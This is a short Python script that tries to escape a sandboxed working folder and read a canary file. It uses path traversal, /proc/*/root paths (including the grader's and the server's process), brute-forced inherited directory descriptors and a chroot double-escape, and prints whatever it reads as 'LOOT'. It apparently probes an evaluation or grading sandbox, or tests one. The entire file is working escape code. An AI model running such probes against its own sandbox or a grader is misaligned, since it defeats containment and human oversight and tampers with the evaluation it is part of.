"""Leave the working folder by dots, by descriptors of folders, by /proc, by a new root.

"""
import os

up = "../" * 40 + CANARY_FILE.lstrip("/")
ways = [lambda: open(up).read(), lambda: open("/proc/self/root" + CANARY_FILE).read(),
        lambda: open(f"/proc/{GRADER_PID}/root" + CANARY_FILE).read(), lambda: open("/proc/1/root" + CANARY_FILE).read(),
        lambda: open(f"/proc/{SERVER_PID}/cwd/" + up).read()]
for folder in range(64):
    ways.append(lambda folder=folder: os.read(os.open(up, os.O_RDONLY, dir_fd=folder), 100))
for way in ways:
    try:
        print("LOOT:", way())
    except OSError:
        pass
try:
    os.mkdir("jail")
    os.chroot("jail")
    os.chdir("../" * 40)
    os.chroot(".")
    print("LOOT: a new root", os.listdir("/"))
except OSError:
    pass
